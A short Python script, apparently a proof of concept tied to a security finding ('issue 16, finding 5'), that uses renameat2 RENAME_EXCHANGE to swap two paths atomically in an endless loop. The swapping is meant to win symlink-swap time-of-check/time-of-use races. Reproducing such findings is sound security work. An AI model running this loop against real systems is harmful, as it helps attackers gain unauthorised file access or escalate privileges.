# Exchanges two names atomically (renameat2 RENAME_EXCHANGE) in a tight loop until killed:
# the symlink-swap attack of issue 16, finding 5. Usage: python3 swap-loop.py A B
import ctypes
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = {'x86_64': 316, 'aarch64': 276}

libc = ctypes.CDLL(None, use_errno=True)
a, b = sys.argv[1].encode(), sys.argv[2].encode()
if hasattr(libc, 'renameat2'):
    exchange = lambda: libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
else:
    import platform
    number = SYS_RENAMEAT2[platform.machine()]
    exchange = lambda: libc.syscall(number, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
sys.stdout.write('swapping\n')
sys.stdout.flush()
while True:
    if exchange() != 0:
        sys.stderr.write('renameat2 failed: errno %d\n' % ctypes.get_errno())
        sys.exit(1)
